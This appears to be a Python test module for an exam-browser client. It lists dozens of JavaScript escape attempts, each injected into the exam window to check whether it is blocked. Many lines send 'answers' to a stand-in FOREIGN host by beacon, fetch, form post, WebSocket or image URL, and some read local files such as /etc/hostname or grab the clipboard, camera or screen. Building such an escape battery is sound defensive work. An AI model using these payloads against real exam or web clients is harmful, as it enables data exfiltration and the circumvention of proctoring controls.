# ruff: noqa: E501  (JavaScript that stands in one line reads better than broken)
"""What an exam page, or somebody who can put script into one, may try in order to get out or to reach outside: as data.
`run` tries one in the real window of `tests.candidate_agent.ui.play` and says "blocked" or "missed"; the tests of the
exam view and the escape battery use it.

A script is the body of an async function that gives true when it got what it wanted. FOREIGN, FOREIGN_WS, FOREIGN_PORT,
EXAM_PORT and UDP_PORT are filled in. Whatever it gives, a single request at the foreign server, a single datagram at the
UDP port, a window more than the one, or a page that is not the exam's count as missed.
"""

from __future__ import annotations

import contextlib
import json
import socket
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

from tests.candidate_agent.ui.stage import until

if TYPE_CHECKING:
    from tests.candidate_agent.ui.play import Play


@dataclass(frozen=True, slots=True)
class PageTrick:
    name: str
    what: str
    script: str
    expectation: str = "blocked"


_LOADS = "new Promise((yes, no) => { const node = Object.assign(document.createElement('%s'), %s); node.onload = () => yes(true); node.onerror = no; document.body.append(node); })"
_FRESH = "const frame = document.createElement('iframe'); document.body.append(frame); const fresh = frame.contentWindow;"  # before any script of ours is in it
_WORKER = "fetch('FOREIGN/worker', {mode: 'no-cors'}).then(() => postMessage(true), () => postMessage(false))"
_BLOB = "URL.createObjectURL(new Blob([`%s`], {type: 'text/javascript'}))"

NETWORK = (
    PageTrick("fetch", "fetch a foreign address", "await fetch('FOREIGN/fetch', {mode: 'no-cors'}); return true"),
    PageTrick("xhr", "XMLHttpRequest to a foreign address", "return new Promise((yes, no) => { const ask = new XMLHttpRequest(); ask.onload = () => yes(true); ask.onerror = no; ask.open('GET', 'FOREIGN/xhr'); ask.send(); })"),
    PageTrick("web-socket", "WebSocket to a foreign address", "return new Promise((yes, no) => { const line = new WebSocket('FOREIGN_WS/socket'); line.onopen = () => yes(true); line.onerror = no; })"),
    PageTrick("event-source", "EventSource from a foreign address", "return new Promise((yes, no) => { const line = new EventSource('FOREIGN/events'); line.onopen = () => yes(true); line.onerror = no; })"),
    PageTrick("beacon", "sendBeacon to a foreign address", "navigator.sendBeacon('FOREIGN/beacon', 'answers')"),
    PageTrick("keepalive", "fetch with keepalive while the page is left", "addEventListener('pagehide', () => fetch('FOREIGN/keepalive', {method: 'POST', body: 'answers', keepalive: true, mode: 'no-cors'})); location.href = '/start?left'"),
    PageTrick("image", "picture from a foreign address", "return " + _LOADS % ("img", "{src: 'FOREIGN/i.png?answers'}")),
    PageTrick("script", "script from a foreign address", "return " + _LOADS % ("script", "{src: 'FOREIGN/s.js'}")),
    PageTrick("style", "style sheet from a foreign address", "return " + _LOADS % ("link", "{rel: 'stylesheet', href: 'FOREIGN/s.css'}")),
    PageTrick("css-import", "@import and background pictures of a style", "document.body.append(Object.assign(document.createElement('style'), {textContent: `@import url(FOREIGN/import.css); body { background: url(FOREIGN/back.png) }`}))"),
    PageTrick("font", "font from a foreign address", "await new FontFace('far', 'url(FOREIGN/font.woff2)').load(); return true"),
    PageTrick("video", "film from a foreign address", "return new Promise((yes, no) => { const film = document.createElement('video'); film.onloadedmetadata = () => yes(true); film.onerror = no; film.src = 'FOREIGN/film.webm'; film.load(); })"),
    PageTrick("svg-image", "picture within an SVG drawing", "document.body.insertAdjacentHTML('beforeend', `<svg><image href='FOREIGN/svg.png'/><use href='FOREIGN/use.svg#a'/></svg>`)"),
    PageTrick("frame", "frame with a foreign page", "document.body.append(Object.assign(document.createElement('iframe'), {src: 'FOREIGN/frame'}))"),
    PageTrick("object", "object and embed with a foreign page", "document.body.insertAdjacentHTML('beforeend', `<object data='FOREIGN/object'></object><embed src='FOREIGN/embed'>`)"),
    PageTrick("form-frame", "form posted to a foreign address in a frame", "document.body.insertAdjacentHTML('beforeend', `<iframe name=away></iframe><form id=form method=post target=away action='FOREIGN/form'><input name=answers value=1></form>`); form.submit()"),
    PageTrick("form-top", "form posted to a foreign address", "document.body.insertAdjacentHTML('beforeend', `<form id=form method=post action='FOREIGN/form-top'><input name=answers value=1></form>`); form.submit()"),
    PageTrick("meta-refresh", "meta refresh to a foreign page", "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=FOREIGN/refresh'>`)"),
    PageTrick("prefetch", "prefetch, preload, preconnect, dns-prefetch", "for (const rel of ['prefetch', 'preload', 'modulepreload', 'preconnect', 'dns-prefetch', 'prerender']) document.head.append(Object.assign(document.createElement('link'), {rel, as: 'script', href: 'FOREIGN/' + rel}))"),
    PageTrick("speculation", "speculation rules", "document.head.append(Object.assign(document.createElement('script'), {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{urls: ['FOREIGN/speculated']}], prerender: [{urls: ['FOREIGN/prerendered']}]})}))"),
    PageTrick("ping", "the ping of a link", "const link = Object.assign(document.createElement('a'), {href: '#here', ping: 'FOREIGN/ping'}); document.body.append(link); link.click()"),
    PageTrick("worker", "dedicated worker that fetches", "const help = new Worker(" + _BLOB % _WORKER + "); return new Promise((yes) => { help.onmessage = (m) => yes(m.data); })"),
    PageTrick("shared-worker", "shared worker that fetches", "const help = new SharedWorker('/shared.js'); return new Promise((yes) => { help.port.onmessage = (m) => yes(m.data); help.port.start(); })"),
    PageTrick("service-worker", "service worker that fetches", "await navigator.serviceWorker.register('/service.js'); const ready = await navigator.serviceWorker.ready; return new Promise((yes) => { navigator.serviceWorker.onmessage = (m) => yes(m.data); ready.active.postMessage('go'); })"),
    PageTrick("worker-import", "importScripts from a foreign address", "const help = new Worker(" + _BLOB % "try { importScripts('FOREIGN/import.js'); postMessage(true) } catch { postMessage(false) }" + "); return new Promise((yes) => { help.onmessage = (m) => yes(m.data); })"),
    PageTrick("worklet", "audio worklet from a foreign address", "await new AudioContext().audioWorklet.addModule('FOREIGN/worklet.js'); return true"),
    PageTrick("csp-report", "reports that the browser sends for itself", "document.body.append(Object.assign(document.createElement('iframe'), {src: '/reports'})); await new Promise((yes) => setTimeout(yes, 600))"),
    PageTrick("redirect-fetch", "open redirect of the exam's site, by fetch", "await fetch('/away-to-foreign', {mode: 'no-cors'}); return true"),
    PageTrick("redirect-image", "open redirect, by a picture", "return " + _LOADS % ("img", "{src: '/away-to-foreign?image'}")),
    PageTrick("redirect-frame", "open redirect, in a frame", "document.body.append(Object.assign(document.createElement('iframe'), {src: '/away-to-foreign?frame'})); await new Promise((yes) => setTimeout(yes, 300))"),
    PageTrick("redirect-top", "open redirect, of the whole page", "location.href = '/away-to-foreign?top'; await new Promise((yes) => setTimeout(yes, 300))"),
    PageTrick("redirect-socket", "WebSocket with an address of the exam that redirects", "return new Promise((yes, no) => { const line = new WebSocket(location.origin.replace('http', 'ws') + '/away-to-foreign?socket'); line.onopen = () => yes(true); line.onerror = no; })"),
    PageTrick("web-rtc", "peer connection of a fresh frame to a STUN server", _FRESH + "const line = new fresh.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP_PORT'}]}); line.createDataChannel('x'); await line.setLocalDescription(await line.createOffer()); await new Promise((yes) => setTimeout(yes, 500))"),
    PageTrick("web-rtc-turn", "peer connection through a TURN server, over TCP", _FRESH + "const line = new fresh.RTCPeerConnection({iceServers: [{urls: 'turn:127.0.0.1:FOREIGN_PORT?transport=tcp', username: 'u', credential: 'c'}]}); line.createDataChannel('x'); await line.setLocalDescription(await line.createOffer()); await new Promise((yes) => setTimeout(yes, 500))"),
    PageTrick("web-transport", "WebTransport of a fresh frame", _FRESH + "await new fresh.WebTransport('https://127.0.0.1:UDP_PORT/x').ready; return true"),
    PageTrick("other-names", "other names of this computer", "const results = await Promise.allSettled(['localhost', '[::1]', '127.1', '0.0.0.0', '2130706433', '0x7f.1', '127.0.0.2'].map((host) => fetch(`http://${host}:FOREIGN_PORT/name`, {mode: 'no-cors'}))); return results.some((r) => r.status === 'fulfilled')"),
    PageTrick("fresh-fetch", "fetch of a fresh frame", _FRESH + "await fresh.fetch('FOREIGN/fresh', {mode: 'no-cors'}); return true"),
    PageTrick("icon", "icon and manifest of the page", "document.head.insertAdjacentHTML('beforeend', `<link rel=icon href='FOREIGN/icon.png'><link rel=manifest href='FOREIGN/manifest.json'>`); await new Promise((yes) => setTimeout(yes, 200))"),
    PageTrick("nested-worker", "WebSocket of a worker within a worker", "const inner = " + "URL.createObjectURL(new Blob([`const line = new WebSocket('FOREIGN_WS/nested'); line.onopen = () => postMessage(true); line.onerror = () => postMessage(false)`]))" + "; const help = new Worker(URL.createObjectURL(new Blob([`const help = new Worker('${inner}'); help.onmessage = (m) => postMessage(m.data); help.onerror = () => postMessage(false)`]))); return new Promise((yes) => { help.onmessage = (m) => yes(m.data); })"),
    PageTrick("speech", "recognition of speech by a service", _FRESH + "const hear = new fresh.webkitSpeechRecognition(); return new Promise((yes, no) => { hear.onaudiostart = () => yes(true); hear.onerror = no; hear.start(); })"),
    PageTrick("user-info", "an address that starts like the exam's", "await fetch('http://127.0.0.1:EXAM_PORT@127.0.0.1:FOREIGN_PORT/user-info', {mode: 'no-cors'}); return true"),
)  # fmt: skip


def _goes(name: str, address: str) -> PageTrick:
    return PageTrick(f"goto-{name}", f"the whole page goes to {address}", f"location.href = {json.dumps(address)}; await new Promise((yes) => setTimeout(yes, 150))")  # fmt: skip


NAVIGATION = (
    PageTrick("goto-foreign", "the whole page goes to a foreign address", "location.href = 'FOREIGN/navigate'; await new Promise((yes) => setTimeout(yes, 150))"),
    *(
        _goes(name, address)
        for name, address in (
            ("file", "file:///etc/hostname"), ("data", "data:text/html,out"), ("view-source", "view-source:http://127.0.0.1:EXAM_PORT/start"),
            ("chrome", "chrome://settings"), ("devtools", "devtools://devtools/bundled/inspector.html"), ("about", "about:blank"),
            ("filesystem", "filesystem:http://127.0.0.1:EXAM_PORT/temporary/x"), ("ftp", "ftp://127.0.0.1:FOREIGN_PORT/x"), ("mailto", "mailto:friend@example.org?body=answers"),
            ("own-page", "exam-client://app/index.html"), ("program", "exam-agent://start?server=x"), ("resource", "qrc:/qtwebchannel/qwebchannel.js"),
            ("question", "exam-ask://page/alert?text=out"),
        )
    ),
    PageTrick("goto-blob", "the whole page becomes a blob", "location.href = URL.createObjectURL(new Blob(['out'], {type: 'text/html'})); await new Promise((yes) => setTimeout(yes, 150))"),
    PageTrick("goto-script", "javascript: of a link", "const link = Object.assign(document.createElement('a'), {href: \"javascript:location.replace('data:text/html,out')\"}); document.body.append(link); link.click(); await new Promise((yes) => setTimeout(yes, 150))"),
    PageTrick("file-frame", "frame with a file of this computer", "const frame = Object.assign(document.createElement('iframe'), {src: 'file:///etc/hostname'}); document.body.append(frame); await new Promise((yes) => { frame.onload = yes; setTimeout(yes, 300); }); return Boolean(frame.contentDocument?.body?.textContent)"),
    PageTrick("file-fetch", "fetch a file of this computer", "return Boolean(await (await fetch('file:///etc/hostname')).text())"),
)  # fmt: skip

WINDOWS = (
    PageTrick("window-open", "window.open", "return Boolean(window.open('/start'))"),
    PageTrick("window-open-fresh", "window.open of a fresh frame", _FRESH + "return Boolean(fresh.open('/start'))"),
    PageTrick("blank-link", "a link that opens a window", "const link = Object.assign(document.createElement('a'), {href: '/start', target: '_blank'}); document.body.append(link); link.click(); await new Promise((yes) => setTimeout(yes, 150))"),
    PageTrick("print", "print from a fresh frame", _FRESH + "fresh.print(); await new Promise((yes) => setTimeout(yes, 150))"),
    PageTrick("download", "download of a paper of the exam", "const link = Object.assign(document.createElement('a'), {href: '/paper.bin', download: 'paper.bin'}); document.body.append(link); link.click(); await new Promise((yes) => setTimeout(yes, 150))"),
    PageTrick("download-blob", "download of what the page wrote", "const link = Object.assign(document.createElement('a'), {href: URL.createObjectURL(new Blob(['answers'])), download: 'answers.txt'}); document.body.append(link); link.click(); await new Promise((yes) => setTimeout(yes, 150))"),
    PageTrick("pdf", "a PDF as the whole page", "location.href = '/paper.pdf'; await new Promise((yes) => setTimeout(yes, 150))"),
    PageTrick("full-screen", "full screen for an element", "await document.documentElement.requestFullscreen(); return true"),
    PageTrick("pointer-lock", "hold the pointer", "await document.body.requestPointerLock(); return Boolean(document.pointerLockElement)"),
    PageTrick("picture-in-picture", "a film in a window of its own", _FRESH + "await fresh.documentPictureInPicture.requestWindow(); return true"),
)  # fmt: skip

RIGHTS = (
    PageTrick("camera", "camera and microphone", "await navigator.mediaDevices.getUserMedia({audio: true, video: true}); return true"),
    PageTrick("screen", "picture of the screen", "await navigator.mediaDevices.getDisplayMedia({video: true}); return true"),
    PageTrick("clipboard-read", "read the clipboard", "await navigator.clipboard.readText(); return true"),
    PageTrick("clipboard-write", "write to the clipboard", "await navigator.clipboard.writeText('answers'); return true"),
    PageTrick("exec-copy", "copy by command", "answer.value = 'answers'; answer.select(); document.execCommand('copy')"),
    PageTrick("exec-copy-fresh", "copy by command, from a fresh frame that keeps the guard from hearing of it", _FRESH + "fresh.addEventListener('copy', (e) => { e.clipboardData.setData('text/plain', 'answers'); e.preventDefault(); e.stopImmediatePropagation(); }, true); fresh.document.body.innerHTML = '<textarea>answers</textarea>'; fresh.document.querySelector('textarea').select(); fresh.document.execCommand('copy')"),
    PageTrick("clipboard-fresh", "write to the clipboard from a fresh frame", _FRESH + "await fresh.navigator.clipboard.writeText('answers'); return true"),
    PageTrick("drop-down", "the list of a choice, which is a window while it is open", "document.body.insertAdjacentHTML('beforeend', '<select id=list><option>1<option>2</select>'); document.querySelector('#list').showPicker?.(); await new Promise((yes) => setTimeout(yes, 200)); document.querySelector('#list').remove()"),
    PageTrick("exec-paste", "paste by command", "answer.focus(); answer.value = ''; document.execCommand('paste'); return answer.value !== ''"),
    PageTrick("place", "where the computer is", "return new Promise((yes, no) => navigator.geolocation.getCurrentPosition(() => yes(true), no))"),
    PageTrick("notification", "notifications of the desktop", _FRESH + "return (await fresh.Notification.requestPermission()) === 'granted'"),
    PageTrick("fonts", "list of the fonts of this computer", _FRESH + "return (await fresh.queryLocalFonts()).length > 0"),
    PageTrick("protocol-handler", "become the program for a kind of address", "navigator.registerProtocolHandler('web+exam', location.origin + '/take?url=%s'); return false"),
    PageTrick("open-file", "file picker of a fresh frame", _FRESH + "return (await fresh.showOpenFilePicker()).length > 0"),
    PageTrick("choose-file", "file chooser of a field", "const field = Object.assign(document.createElement('input'), {type: 'file'}); document.body.append(field); field.click(); await new Promise((yes) => setTimeout(yes, 150)); return field.files.length > 0"),
    PageTrick("choose-colour", "colour dialogue, which can pick from the screen", "const field = Object.assign(document.createElement('input'), {type: 'color'}); document.body.append(field); field.showPicker(); await new Promise((yes) => setTimeout(yes, 400)); return false"),
    PageTrick("devices", "USB, serial, HID and Bluetooth devices", "const asked = await Promise.allSettled([navigator.usb?.requestDevice({filters: []}), navigator.serial?.requestPort(), navigator.hid?.requestDevice({filters: []}), navigator.bluetooth?.requestDevice({acceptAllDevices: true})].filter(Boolean)); return asked.some((r) => r.status === 'fulfilled' && r.value && (r.value.length ?? 1) > 0)"),
    PageTrick("share", "share with another program", "await navigator.share({text: 'answers'}); return true"),
    PageTrick("security-key", "security key dialogue", "await navigator.credentials.create({publicKey: {challenge: new Uint8Array(16), rp: {name: 'x'}, user: {id: new Uint8Array(8), name: 'x', displayName: 'x'}, pubKeyCredParams: [{type: 'public-key', alg: -7}]}}); return true"),
)  # fmt: skip

TRICKS: tuple[PageTrick, ...] = (*NETWORK, *NAVIGATION, *WINDOWS, *RIGHTS)


@contextmanager
def listening() -> Iterator[socket.socket]:
    """A UDP socket on loopback. What came is there to be read, without waiting."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.bind(("127.0.0.1", 0))
        udp.setblocking(False)
        yield udp


def run(trick: PageTrick, play: Play, udp: socket.socket, press: Callable[[], None] | None = None) -> str:
    """ "blocked", or "missed: " and what got out. The exam is open in the window of `play`; it is put back to its start.

    `press` clicks on the page's #go as a hand does: many things are given to a page only then.
    """
    _start(play)
    play.foreign.asked.clear()
    _drain(udp)
    script = _wrapped(_filled(trick.script, play, udp))
    if press is None:
        play.exam_js(script)
    else:
        play.exam_js(f"{_BUTTON} globalThis.pressed = false; globalThis.trick = {{done: false}}; 1")
        play.exam_js(f"go.onclick = () => {{ if (pressed) return; pressed = true; {script} }}; 1")
        until(lambda: (press(), play.exam_js("globalThis.pressed !== false"))[1], f"{trick.name} has begun")
    until(lambda: play.exam_js("globalThis.trick ? trick.done : true"), f"{trick.name} has ended")
    got = play.exam_js("globalThis.trick?.got === true")
    address = _address(play)
    _fence(play)
    return _verdict(play, udp, address, bool(got))


def _verdict(play: Play, udp: socket.socket, address: str, got: bool) -> str:
    out = (
        [f"foreign server asked for {path}" for path in play.foreign.paths()]
        + [f"datagram of {size} bytes" for size in _drain(udp)]
        + [f"the page is at {address}" for _ in (1,) if not address.startswith(play.exam.url)]
        + ["the page got it" for _ in (1,) if got]
        + ["another window" for _ in (1,) if play.top_windows() != 1]
    )
    return "missed: " + "; ".join(out) if out else "blocked"


_BUTTON = (
    "document.body.insertAdjacentHTML('afterbegin', '<button id=go style=\"width: 300px; height: 80px\">go</button>');"
)


def _address(play: Play) -> str:
    """Where the page is, once it had the time to be taken back."""
    try:
        return str(until(lambda: play.exam_js(f"location.origin === '{play.exam.url}' && location.href"), "back", 2.0))
    except AssertionError:
        return str(play.exam_js("location.href"))


def _start(play: Play) -> None:
    play.exam_js("globalThis.old = true; 1")
    play.load("/start")
    until(lambda: play.exam_js("!globalThis.old && document.querySelector('#answer') !== null"), "the exam's start")


def _filled(script: str, play: Play, udp: socket.socket) -> str:
    words = {
        "FOREIGN_WS": play.foreign.url.replace("http", "ws", 1),
        "FOREIGN_PORT": play.foreign.url.rpartition(":")[2],
        "EXAM_PORT": play.exam.url.rpartition(":")[2],
        "UDP_PORT": str(udp.getsockname()[1]),
        "FOREIGN": play.foreign.url,
    }
    for word, value in words.items():
        script = script.replace(word, value)
    return script


def _wrapped(script: str) -> str:
    return f"""globalThis.trick = {{done: false, got: false}};
      Promise.race([(async () => {{ {script} }})(), new Promise((yes) => setTimeout(yes, 1500))])
        .then((got) => {{ trick.got = got === true; }}, () => {{}}).finally(() => {{ trick.done = true; }}); 1"""


def _fence(play: Play) -> None:
    """What went out before has arrived when this has: both servers are on this computer."""
    seen = play.exam.paths().count("/fence")

    def arrived() -> bool:
        """Asked again: a page that is just being taken back forgets what it asked for."""
        play.exam_js(f"fetch('{play.exam.url}/fence', {{mode: 'no-cors', cache: 'no-store'}}); 1")
        with contextlib.suppress(AssertionError):
            until(lambda: play.exam.paths().count("/fence") > seen, "the fence", 1.0)
        return play.exam.paths().count("/fence") > seen

    until(arrived, f"the fence at {play.exam_js('location.href')}", 20.0)


def _drain(udp: socket.socket) -> list[int]:
    sizes = []
    while True:
        try:
            sizes.append(len(udp.recv(4096)))
        except BlockingIOError:
            return sizes


def prepare(play: Any) -> None:
    """The pages that tricks need on the exam's site."""
    js = "text/javascript"
    worker = f"fetch('{play.foreign.url}/worker', {{mode: 'no-cors'}})"
    play.exam.page("/shared.js", f"onconnect = (e) => {worker}.then(() => e.ports[0].postMessage(true), () => e.ports[0].postMessage(false))", Content_Type=js)  # fmt: skip
    play.exam.page("/service.js", f"onmessage = (e) => {worker}.then(() => e.source.postMessage(true), () => e.source.postMessage(false)); onactivate = () => clients.claim()", Content_Type=js)  # fmt: skip
    play.exam.page("/reports", "<script>1</script>", Content_Security_Policy=f"script-src 'none'; report-uri {play.foreign.url}/report")  # fmt: skip
    play.exam.page("/paper.pdf", "%PDF-1.4", Content_Type="application/pdf")
    play.exam.page("/away-to-foreign", status=302, Location=play.foreign.url + "/redirect")
    for kind in ("image", "frame", "top", "socket"):
        play.exam.page(f"/away-to-foreign?{kind}", status=302, Location=f"{play.foreign.url}/redirect-{kind}")
